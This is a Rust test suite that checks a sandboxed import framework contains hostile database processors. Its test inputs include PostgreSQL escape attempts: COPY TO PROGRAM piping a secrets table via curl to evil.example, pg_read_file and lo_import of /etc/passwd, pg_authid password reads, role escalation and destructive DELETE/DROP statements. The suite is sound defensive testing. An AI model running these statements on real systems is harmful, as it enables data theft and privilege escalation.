//! The hostile-processor suite: each test is one attack by an untrusted processor. Every test
//! asserts containment: the attacking item fails with a clear reason, the host keeps going (the
//! next item succeeds), and the framework tables (other batches' rows) and every table the
//! processor was not granted are unchanged.
//!
//! The processor here may select, insert and update `probe_rows` — nothing else: not delete, not
//! `secrets`, not `customers`, not Ingot's own tables.
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod support;

use ingot::batch::{BatchManager, CreateOptions, ProcessOptions};
use ingot::input::InputSource;
use serde_json::{Value, json};
use sqlx::Row;
use support::{Processors, TestDb, guest};
use uuid::Uuid;

const SCHEMA: &str = "
    CREATE TABLE probe_rows (id serial PRIMARY KEY, label text UNIQUE NOT NULL);
    CREATE TABLE secrets (id int PRIMARY KEY, value text NOT NULL);
    INSERT INTO secrets VALUES (1, 'the launch code');
    CREATE TABLE customers (id serial PRIMARY KEY, email text NOT NULL);
    INSERT INTO customers (email) VALUES ('someone@example.com');";

const MANIFEST: &str = "
    [grants]
    probe_rows = [\"select\", \"insert\", \"update\"]
    [limits]
    timeout_ms = 500
    memory_mb = 32
    statement_timeout_ms = 300";

struct Arena {
    db: TestDb,
    manager: BatchManager,
    _processors: Processors,
    files: tempfile::TempDir,
}

/// Everything an attack must not change: other batches' framework rows, and the tables the
/// processor was not granted.
async fn fingerprint(db: &TestDb, except: Option<Uuid>) -> Vec<Option<String>> {
    let except = except.unwrap_or_else(Uuid::nil);
    let mut out = Vec::new();
    for sql in [
        "SELECT md5(string_agg(t::text, '|' ORDER BY t::text)) FROM import_batches t WHERE id <> $1",
        "SELECT md5(string_agg(t::text, '|' ORDER BY t::text)) FROM import_batch_items t WHERE batch_id <> $1",
        "SELECT md5(string_agg(t::text, '|' ORDER BY t::text)) FROM import_logs t WHERE batch_id <> $1",
        "SELECT md5(string_agg(t::text, '|' ORDER BY t::text)) FROM import_batch_counters t WHERE batch_id <> $1",
        "SELECT md5(string_agg(t::text, '|' ORDER BY t::text)) FROM secrets t WHERE $1 IS NOT NULL",
        "SELECT md5(string_agg(t::text, '|' ORDER BY t::text)) FROM customers t WHERE $1 IS NOT NULL",
    ] {
        out.push(sqlx::query_scalar(sql).bind(except).fetch_one(&db.pool).await.unwrap());
    }
    // Superusers, and this test's own processor roles with their attributes and memberships.
    let roles = "SELECT md5(string_agg(r.rolname::text || r.rolsuper || r.rolcreaterole || r.rolcanlogin || r.rolbypassrls
                        || coalesce((SELECT string_agg(m.roleid::regrole::text, ',' ORDER BY 1) FROM pg_auth_members m
                                     WHERE m.member = r.oid), ''), '|' ORDER BY r.rolname))
                 FROM pg_roles r WHERE r.rolsuper OR starts_with(r.rolname, $1)";
    out.push(sqlx::query_scalar(roles).bind(db.role_prefix()).fetch_one(&db.pool).await.unwrap());
    out
}

impl Arena {
    async fn new() -> Arena {
        let db = TestDb::new().await;
        db.apply(SCHEMA).await;
        let processors = Processors::new(&[("probe", &guest("probe"), Some(MANIFEST))]);
        let manager = support::manager(&db, &processors, support::runtime());
        let arena = Arena { db, manager, _processors: processors, files: tempfile::tempdir().unwrap() };
        // An earlier, innocent batch whose rows the attacks must not touch.
        arena
            .run(&[
                json!({"mode": "log", "message": "innocent"}),
                json!({"mode": "invalid", "message": "old"}),
            ])
            .await;
        arena
    }

    async fn run(&self, items: &[Value]) -> Uuid {
        let path = self.files.path().join(format!("{}.ndjson", Uuid::new_v4().simple()));
        std::fs::write(&path, items.iter().map(|i| format!("{i}\n")).collect::<String>()).unwrap();
        let source = InputSource::from_arg(path.to_str().unwrap(), None).unwrap();
        let summary = self
            .manager
            .run("probe", source, &CreateOptions::default(), &ProcessOptions::workers(1), None)
            .await
            .expect("the host survives the attack");
        summary.batch_id
    }

    /// Runs the attack then an innocent item; returns the attack's recorded error message after
    /// checking containment.
    async fn attack(&self, attack: Value) -> String {
        let before = fingerprint(&self.db, None).await;
        let label = format!("after-{}", Uuid::new_v4().simple());
        let batch =
            self.run(&[attack, sql(&format!("INSERT INTO probe_rows (label) VALUES ('{label}')"))]).await;
        let items = sqlx::query("SELECT item_index, status, error_message FROM import_batch_items WHERE batch_id = $1 ORDER BY item_index")
            .bind(batch)
            .fetch_all(&self.db.pool)
            .await
            .unwrap();
        assert_eq!(items[1].get::<String, _>("status"), "completed", "the next item must succeed");
        assert_eq!(
            self.db.scalar_i64(&format!("SELECT count(*) FROM probe_rows WHERE label = '{label}'")).await,
            1
        );
        assert_eq!(
            fingerprint(&self.db, Some(batch)).await,
            before,
            "framework tables or ungranted tables changed"
        );
        let status: String = sqlx::query_scalar("SELECT status FROM import_batches WHERE id = $1")
            .bind(batch)
            .fetch_one(&self.db.pool)
            .await
            .unwrap();
        assert_eq!(status, "completed", "the batch carries on");
        assert_eq!(items[0].get::<String, _>("status"), "failed", "the attack must fail its item");
        items[0].get::<Option<String>, _>("error_message").expect("a reason")
    }
}

fn sql(statement: &str) -> Value {
    json!({"mode": "sql", "sql": statement})
}

fn query(statement: &str) -> Value {
    json!({"mode": "sql", "sql": statement, "query": true})
}

fn assert_reason(reason: &str, expected: &[&str]) {
    for part in expected {
        assert!(reason.contains(part), "the reason {reason:?} should mention {part:?}");
    }
}

// The sandbox: time, memory, output, WASI.

#[tokio::test]
async fn hostile_infinite_loop_is_stopped_by_the_time_limit() {
    let reason = Arena::new().await.attack(json!({"mode": "loop"})).await;
    assert_reason(&reason, &["500 ms time limit"]);
}

#[tokio::test]
async fn hostile_deep_recursion_traps_and_is_contained() {
    let reason = Arena::new().await.attack(json!({"mode": "recurse"})).await;
    assert_reason(&reason, &["trapped", "stack"]);
}

#[tokio::test]
async fn hostile_memory_bomb_is_stopped_at_the_memory_cap() {
    let reason = Arena::new().await.attack(json!({"mode": "alloc"})).await;
    assert_reason(&reason, &["32 MiB memory limit"]);
}

#[tokio::test]
async fn hostile_panic_is_contained() {
    let reason = Arena::new().await.attack(json!({"mode": "panic", "message": "gotcha"})).await;
    assert_reason(&reason, &["trapped", "probe panic: gotcha"]);
}

#[tokio::test]
async fn hostile_log_flood_is_stopped_at_the_log_cap() {
    let reason = Arena::new().await.attack(json!({"mode": "log", "lines": 100_000, "message": "spam"})).await;
    assert_reason(&reason, &["log lines per item"]);
}

#[tokio::test]
async fn hostile_oversized_log_line_is_stopped_at_the_message_cap() {
    let reason = Arena::new().await.attack(json!({"mode": "big_log", "bytes": 1_000_000})).await;
    assert_reason(&reason, &["log message size"]);
}

#[tokio::test]
async fn hostile_huge_outcome_is_refused_at_the_outcome_cap() {
    let reason = Arena::new().await.attack(json!({"mode": "huge_outcome", "bytes": 4_000_000})).await;
    assert_reason(&reason, &["outcome size"]);
}

#[tokio::test]
async fn hostile_stdout_flood_is_truncated_and_the_host_carries_on() {
    let arena = Arena::new().await;
    let before = fingerprint(&arena.db, None).await;
    let batch = arena.run(&[json!({"mode": "print", "bytes": 5_000_000}), json!({"mode": "ok"})]).await;
    let kept = arena.db.scalar_i64(&format!("SELECT coalesce(sum(length(message)), 0) FROM import_logs WHERE batch_id = '{batch}' AND source = 'stdout'")).await;
    assert!(kept <= 64 << 10, "kept {kept} bytes of stdout");
    assert_eq!(
        arena
            .db
            .scalar_i64(&format!(
                "SELECT count(*) FROM import_batch_items WHERE batch_id = '{batch}' AND status = 'completed'"
            ))
            .await,
        2
    );
    assert_eq!(fingerprint(&arena.db, Some(batch)).await, before);
}

#[tokio::test]
async fn hostile_file_read_is_denied() {
    let reason =
        Arena::new().await.attack(json!({"mode": "file", "path": "/etc/passwd", "must": true})).await;
    assert_reason(&reason, &["file was refused", "Err("]);
}

#[tokio::test]
async fn hostile_file_write_is_denied() {
    let reason = Arena::new()
        .await
        .attack(json!({"mode": "write_file", "path": "/tmp/ingot-hostile", "must": true}))
        .await;
    assert_reason(&reason, &["write_file was refused"]);
    assert!(!std::path::Path::new("/tmp/ingot-hostile").exists());
}

#[tokio::test]
async fn hostile_environment_read_finds_nothing() {
    let reason = Arena::new().await.attack(json!({"mode": "env", "must": true})).await;
    assert_reason(&reason, &["the environment is empty"]);
}

#[tokio::test]
async fn hostile_socket_connect_is_denied() {
    let reason =
        Arena::new().await.attack(json!({"mode": "socket", "addr": "127.0.0.1:5432", "must": true})).await;
    assert_reason(&reason, &["socket was refused", "PermissionDenied"]);
}

// The database session: role, transaction and settings cannot be changed.

#[tokio::test]
async fn hostile_reset_role_is_refused() {
    let reason = Arena::new().await.attack(sql("RESET ROLE")).await;
    assert_reason(&reason, &["refused by the SQL gate", "SET, RESET"]);
}

#[tokio::test]
async fn hostile_set_role_is_refused() {
    let reason = Arena::new().await.attack(sql("SET ROLE postgres")).await;
    assert_reason(&reason, &["refused by the SQL gate", "SET, RESET"]);
}

#[tokio::test]
async fn hostile_set_session_authorization_is_refused() {
    let reason = Arena::new().await.attack(sql("SET SESSION AUTHORIZATION postgres")).await;
    assert_reason(&reason, &["refused by the SQL gate"]);
}

#[tokio::test]
async fn hostile_set_config_role_is_refused() {
    let reason = Arena::new().await.attack(query("SELECT set_config('role', 'postgres', true)")).await;
    assert_reason(&reason, &["refused by the SQL gate", "set_config()"]);
}

#[tokio::test]
async fn hostile_set_statement_timeout_is_refused() {
    let reason = Arena::new().await.attack(sql("SET statement_timeout = 0")).await;
    assert_reason(&reason, &["refused by the SQL gate"]);
}

#[tokio::test]
async fn hostile_commit_then_write_is_refused() {
    let arena = Arena::new().await;
    let reason = arena.attack(sql("COMMIT")).await;
    assert_reason(&reason, &["refused by the SQL gate", "transaction control"]);
    let reason = arena.attack(sql("COMMIT; INSERT INTO secrets VALUES (2, 'planted')")).await;
    assert_reason(&reason, &["refused by the SQL gate", "2 statements"]);
}

#[tokio::test]
async fn hostile_rollback_is_refused() {
    let reason = Arena::new().await.attack(sql("ROLLBACK")).await;
    assert_reason(&reason, &["transaction control"]);
}

#[tokio::test]
async fn hostile_savepoint_and_release_are_refused() {
    let arena = Arena::new().await;
    assert_reason(&arena.attack(sql("SAVEPOINT escape")).await, &["transaction control"]);
    assert_reason(&arena.attack(sql("RELEASE SAVEPOINT ingot_processor")).await, &["transaction control"]);
}

#[tokio::test]
async fn hostile_multi_statement_string_is_refused() {
    let reason = Arena::new().await.attack(sql("SELECT 1; DELETE FROM secrets")).await;
    assert_reason(&reason, &["2 statements"]);
}

#[tokio::test]
async fn hostile_do_block_is_refused() {
    let reason = Arena::new().await.attack(sql("DO $$ BEGIN EXECUTE 'DELETE FROM secrets'; END $$")).await;
    assert_reason(&reason, &["DO blocks"]);
}

#[tokio::test]
async fn hostile_call_is_refused() {
    let reason = Arena::new().await.attack(sql("CALL do_anything()")).await;
    assert_reason(&reason, &["CALL"]);
}

#[tokio::test]
async fn hostile_copy_to_program_is_refused() {
    let reason =
        Arena::new().await.attack(sql("COPY secrets TO PROGRAM 'curl -d @- http://evil.example'")).await;
    assert_reason(&reason, &["COPY"]);
}

#[tokio::test]
async fn hostile_copy_from_a_file_is_refused() {
    let reason = Arena::new().await.attack(sql("COPY probe_rows (label) FROM '/etc/passwd'")).await;
    assert_reason(&reason, &["COPY"]);
}

#[tokio::test]
async fn hostile_listen_is_refused() {
    let reason = Arena::new().await.attack(sql("LISTEN ingot_batches")).await;
    assert_reason(&reason, &["LISTEN"]);
}

#[tokio::test]
async fn hostile_notify_is_refused() {
    let reason = Arena::new().await.attack(sql("NOTIFY ingot_batches, 'fake'")).await;
    assert_reason(&reason, &["NOTIFY"]);
}

#[tokio::test]
async fn hostile_prepare_and_execute_are_refused() {
    let arena = Arena::new().await;
    assert_reason(&arena.attack(sql("PREPARE p AS DELETE FROM secrets")).await, &["PREPARE"]);
    assert_reason(&arena.attack(sql("EXECUTE p")).await, &["PREPARE"]);
}

#[tokio::test]
async fn hostile_lock_table_is_refused() {
    let reason = Arena::new().await.attack(sql("LOCK TABLE import_batches IN ACCESS EXCLUSIVE MODE")).await;
    assert_reason(&reason, &["LOCK TABLE"]);
}

#[tokio::test]
async fn hostile_advisory_lock_is_refused() {
    let reason = Arena::new().await.attack(query("SELECT pg_advisory_lock(42)")).await;
    assert_reason(&reason, &["pg_advisory_lock()"]);
}

#[tokio::test]
async fn hostile_vacuum_is_refused() {
    let reason = Arena::new().await.attack(sql("VACUUM FULL import_batch_items")).await;
    assert_reason(&reason, &["VACUUM"]);
}

#[tokio::test]
async fn hostile_explain_analyze_is_refused() {
    let reason = Arena::new().await.attack(sql("EXPLAIN ANALYZE DELETE FROM secrets")).await;
    assert_reason(&reason, &["EXPLAIN"]);
}

// DDL.

#[tokio::test]
async fn hostile_create_table_is_refused() {
    let reason = Arena::new().await.attack(sql("CREATE TABLE loot AS SELECT * FROM secrets")).await;
    assert_reason(&reason, &["DDL"]);
}

#[tokio::test]
async fn hostile_drop_table_is_refused() {
    let reason = Arena::new().await.attack(sql("DROP TABLE customers")).await;
    assert_reason(&reason, &["DDL"]);
}

#[tokio::test]
async fn hostile_truncate_is_refused() {
    let reason = Arena::new().await.attack(sql("TRUNCATE secrets")).await;
    assert_reason(&reason, &["TRUNCATE"]);
}

#[tokio::test]
async fn hostile_select_into_is_refused() {
    let reason = Arena::new().await.attack(sql("SELECT * INTO loot FROM probe_rows")).await;
    assert_reason(&reason, &["SELECT … INTO"]);
}

#[tokio::test]
async fn hostile_grant_is_refused() {
    let reason = Arena::new().await.attack(sql("GRANT ALL ON secrets TO PUBLIC")).await;
    assert_reason(&reason, &["GRANT"]);
}

// Tables: only what the manifest grants.

#[tokio::test]
async fn hostile_reading_import_batch_items_is_denied() {
    let reason = Arena::new().await.attack(query("SELECT source_data FROM import_batch_items")).await;
    assert_reason(&reason, &["permission denied for table import_batch_items", "may use only what"]);
}

#[tokio::test]
async fn hostile_updating_import_batches_is_denied() {
    let reason = Arena::new().await.attack(sql("UPDATE import_batches SET status = 'completed'")).await;
    assert_reason(&reason, &["permission denied for table import_batches"]);
}

#[tokio::test]
async fn hostile_inserting_into_import_logs_is_denied() {
    let reason = Arena::new()
        .await
        .attack(sql("INSERT INTO import_logs (batch_id, log_level, message) VALUES (gen_random_uuid(), 'error', 'forged')"))
        .await;
    assert_reason(&reason, &["permission denied for table import_logs"]);
}

#[tokio::test]
async fn hostile_forging_counters_is_denied() {
    let reason =
        Arena::new().await.attack(sql("UPDATE import_batch_counters SET completed = completed + 1000")).await;
    assert_reason(&reason, &["permission denied for table import_batch_counters"]);
}

#[tokio::test]
async fn hostile_writing_a_table_not_granted_is_denied() {
    let reason = Arena::new().await.attack(sql("INSERT INTO secrets VALUES (2, 'planted')")).await;
    assert_reason(&reason, &["permission denied for table secrets"]);
}

#[tokio::test]
async fn hostile_reading_another_processors_table_is_denied() {
    let reason = Arena::new().await.attack(query("SELECT email FROM customers")).await;
    assert_reason(&reason, &["permission denied for table customers"]);
}

#[tokio::test]
async fn hostile_delete_not_granted_is_denied() {
    let arena = Arena::new().await;
    arena.run(&[sql("INSERT INTO probe_rows (label) VALUES ('keep me')")]).await;
    let reason = arena.attack(sql("DELETE FROM probe_rows")).await;
    assert_reason(&reason, &["permission denied for table probe_rows"]);
    assert_eq!(arena.db.scalar_i64("SELECT count(*) FROM probe_rows WHERE label = 'keep me'").await, 1);
}

#[tokio::test]
async fn hostile_write_through_a_data_modifying_cte_is_denied() {
    let reason = Arena::new()
        .await
        .attack(query("WITH gone AS (DELETE FROM secrets RETURNING *) SELECT * FROM gone"))
        .await;
    assert_reason(&reason, &["permission denied for table secrets"]);
}

#[tokio::test]
async fn hostile_copying_framework_data_into_a_granted_table_is_denied() {
    let reason = Arena::new()
        .await
        .attack(sql("INSERT INTO probe_rows (label) SELECT source_data::text FROM import_batch_items"))
        .await;
    assert_reason(&reason, &["permission denied for table import_batch_items"]);
}

#[tokio::test]
async fn hostile_reading_pg_authid_is_denied() {
    let reason = Arena::new().await.attack(query("SELECT rolname, rolpassword FROM pg_authid")).await;
    assert_reason(&reason, &["permission denied for table pg_authid"]);
}

// Functions that reach outside the database or other sessions.

#[tokio::test]
async fn hostile_pg_read_file_is_refused() {
    let reason = Arena::new().await.attack(query("SELECT pg_read_file('/etc/passwd')")).await;
    assert_reason(&reason, &["pg_read_file()"]);
}

#[tokio::test]
async fn hostile_lo_import_is_refused() {
    let reason = Arena::new().await.attack(query("SELECT lo_import('/etc/passwd')")).await;
    assert_reason(&reason, &["lo_import()"]);
}

#[tokio::test]
async fn hostile_dblink_is_refused() {
    let reason = Arena::new()
        .await
        .attack(query(
            "SELECT * FROM dblink('host=127.0.0.1 user=postgres', 'DELETE FROM secrets') AS t(x text)",
        ))
        .await;
    assert_reason(&reason, &["dblink()"]);
}

#[tokio::test]
async fn hostile_query_to_xml_is_refused() {
    let reason = Arena::new()
        .await
        .attack(query("SELECT query_to_xml('SELECT * FROM secrets', true, false, '')"))
        .await;
    assert_reason(&reason, &["query_to_xml()"]);
}

#[tokio::test]
async fn hostile_terminating_other_backends_is_refused() {
    let reason =
        Arena::new().await.attack(query("SELECT pg_terminate_backend(pid) FROM pg_stat_activity")).await;
    assert_reason(&reason, &["pg_terminate_backend()"]);
}

#[tokio::test]
async fn hostile_pg_sleep_past_the_statement_timeout_is_cancelled() {
    let reason = Arena::new().await.attack(query("SELECT pg_sleep(30)")).await;
    assert_reason(&reason, &["statement timeout", "57014"]);
}

// Data the processor controls.

#[tokio::test]
async fn hostile_parameter_carrying_sql_is_stored_as_text() {
    let arena = Arena::new().await;
    let payload = "x'); DELETE FROM secrets; --";
    let before = fingerprint(&arena.db, None).await;
    let batch = arena
        .run(&[
            json!({"mode": "sql", "sql": "INSERT INTO probe_rows (label) VALUES ($1)", "params": [payload]}),
        ])
        .await;
    assert_eq!(
        arena
            .db
            .scalar_i64(&format!(
                "SELECT count(*) FROM probe_rows WHERE label = '{}'",
                payload.replace('\'', "''")
            ))
            .await,
        1
    );
    assert_eq!(fingerprint(&arena.db, Some(batch)).await, before);
}

#[tokio::test]
async fn hostile_nul_characters_cannot_break_the_hosts_own_writes() {
    let reason = Arena::new()
        .await
        .attack(json!({"mode": "invalid", "message": "evil<NUL>message", "code": "nul<NUL>code"}))
        .await;
    assert_eq!(reason, "evil\u{FFFD}message");
}

#[tokio::test]
async fn hostile_nul_characters_in_metadata_cannot_break_the_hosts_own_writes() {
    let arena = Arena::new().await;
    let before = fingerprint(&arena.db, None).await;
    let batch = arena
        .run(&[
            json!({"mode": "metadata_set", "key": "k<NUL>ey", "value": "v<NUL>alue"}),
            json!({"mode": "ok"}),
        ])
        .await;
    let metadata: Value = sqlx::query_scalar("SELECT metadata FROM import_batches WHERE id = $1")
        .bind(batch)
        .fetch_one(&arena.db.pool)
        .await
        .unwrap();
    assert_eq!(metadata["k\u{FFFD}ey"], "v\u{FFFD}alue");
    assert_eq!(fingerprint(&arena.db, Some(batch)).await, before);
}

#[tokio::test]
async fn hostile_nul_characters_in_a_batch_rejection_cannot_break_the_hosts_own_writes() {
    let arena = Arena::new().await;
    let path = arena.files.path().join("reject.ndjson");
    std::fs::write(&path, "{\"mode\": \"ok\"}\n").unwrap();
    let create = CreateOptions { metadata: Some(json!({"reject": "no<NUL>way"})), ..Default::default() };
    let summary = arena
        .manager
        .run(
            "probe",
            InputSource::from_arg(path.to_str().unwrap(), None).unwrap(),
            &create,
            &ProcessOptions::workers(1),
            None,
        )
        .await
        .expect("the host survives");
    assert_eq!(summary.status, ingot::store::BatchStatus::Failed);
    assert!(summary.error_message.unwrap().contains("no\u{FFFD}way"));
    // And the next batch runs.
    arena.attack(json!({"mode": "invalid", "message": "ordinary"})).await;
}
